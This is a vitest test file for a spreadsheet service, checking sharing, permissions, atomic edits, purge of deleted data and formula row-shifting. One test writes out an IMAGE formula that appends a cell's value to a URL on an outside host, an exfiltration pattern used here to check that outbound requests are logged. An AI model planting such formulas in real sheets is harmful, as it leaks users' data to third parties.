import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { createLedger } from '../../../ledger.ts'
import { openStore } from '../../../store.ts'
import { createSheets } from './create-sheets.ts'
import { shifted } from './formulas/shift-formula.ts'

const by = { email: 'ada@example.com' }
const clock = { now: () => new Date('2026-11-28T12:00:00Z') }
const one = { row: 1, column: 1, rows: 1, columns: 1 }

function open(root: string | null = null) {
  const store = openStore({ root })
  const parts = { store, ledger: createLedger(clock), clock }
  return { store, ledger: parts.ledger, sheets: createSheets(parts), twin: createSheets(parts) }
}

test('two that hold one store see each other’s changes', () => {
  const { store, sheets, twin } = open()
  const { id } = sheets.create(by, { title: 'Shared' })
  sheets.type(by, id, 0, one, '1')
  expect(twin.calculated(by.email, id)).toMatchObject({ ok: true })
  sheets.type(by, id, 0, one, '=1+1')
  const calculated = twin.calculated(by.email, id)
  const workbook = twin.workbook(by.email, id)
  if (!calculated.ok || !workbook.ok) throw new Error('It is gone.')
  const [sheet] = workbook.value.sheets
  expect(sheet && calculated.value.value(sheet, 1, 1)).toBe(2)
  store.dispose()
})

test('an address that a script writes into a formula is what leaves, with the cells that it is made of', () => {
  const { store, sheets, ledger } = open()
  const { id } = sheets.create(by, { title: 'Pictures' })
  const loading = '=IF(A1="", IMAGE("https://draw.example/empty"), IMAGE("https://draw.example/?text=" & A1))'
  sheets.type(by, id, 0, one, 'secret')
  sheets.type(by, id, 0, { ...one, row: 2 }, loading)
  sheets.change({ ...by, app: 'script' }, id, (edit) => edit.setCell(0, 3, 1, { formula: loading }))
  sheets.change({ ...by, app: 'script' }, id, (edit) => edit.setCell(0, 4, 1, { formula: '=LEN(A1)' }))
  const left = ledger.entries().filter(({ channel }) => channel === 'egress')
  expect(left.map(({ summary, app }) => `${app}: ${summary}`)).toEqual([
    'script: GET https://draw.example/?text=secret',
  ])
  store.dispose()
})

test('a change that is refused half way leaves nothing', () => {
  const { store, sheets } = open()
  const { id } = sheets.create(by, { title: 'Whole' })
  const refused = sheets.change(by, id, (edit) => {
    edit.setCell(0, 1, 1, { value: 'half' })
    edit.removeSheet(0)
  })
  expect(refused).toMatchObject({ ok: false, refusal: { code: 'INVALID' } })
  expect(sheets.workbook(by.email, id)).toMatchObject({ value: { sheets: [{ cells: new Map() }] } })
  store.dispose()
})

test('a viewer changes nothing, and others see nothing', () => {
  const { store, sheets } = open()
  const { id } = sheets.create(by, { title: 'Mine' })
  sheets.share(by, id, { email: 'bob@example.com', role: 'viewer' })
  expect(sheets.type({ email: 'bob@example.com' }, id, 0, one, 'x')).toMatchObject({
    refusal: { code: 'FORBIDDEN' },
  })
  expect(sheets.workbook('eve@example.com', id)).toMatchObject({ refusal: { code: 'NOT_FOUND' } })
  store.dispose()
})

test('a copy is its own, and a purge leaves no byte of what was in it', () => {
  const root = mkdtempSync(join(tmpdir(), 'sheets-'))
  const { store, sheets } = open(root)
  const { id } = sheets.create(by, { title: 'Secret' })
  sheets.type(by, id, 0, one, 'xylophone-canary')
  const copy = sheets.makeCopy(by, id)
  if (!copy.ok) throw new Error('It was not copied.')
  sheets.type(by, copy.value.id, 0, one, 'other')
  sheets.trash(by, id)
  expect(sheets.purge(by, id)).toMatchObject({ ok: true })
  expect(sheets.workbook(by.email, copy.value.id)).toMatchObject({ ok: true })
  const files = readdirSync(root, { recursive: true, withFileTypes: true }).filter((file) => file.isFile())
  expect(files.length).toBeGreaterThan(0)
  for (const file of files)
    expect(readFileSync(join(file.parentPath, file.name)).includes('xylophone-canary')).toBe(false)
  store.dispose()
  rmSync(root, { recursive: true })
})

test.each([
  ['=SUM(A1:A4)', 2, 1, '=SUM(A1:A5)'],
  ['=SUM(A1:A4)', 2, -1, '=SUM(A1:A3)'],
  ['=A3+$B$1', 3, -1, '=#REF!+$B$1'],
  ['=Other!A3+A:A', 1, 5, '=Other!A3+A:A'],
  ['="A3"&A3', 1, 1, '="A3"&A4'],
])('%s, after rows came or went at %i by %i, is %s', (formula, at, count, expected) => {
  expect(shifted(formula, 'Sheet1', { sheet: 'Sheet1', dimension: 'rows', at, by: count })).toBe(expected)
})
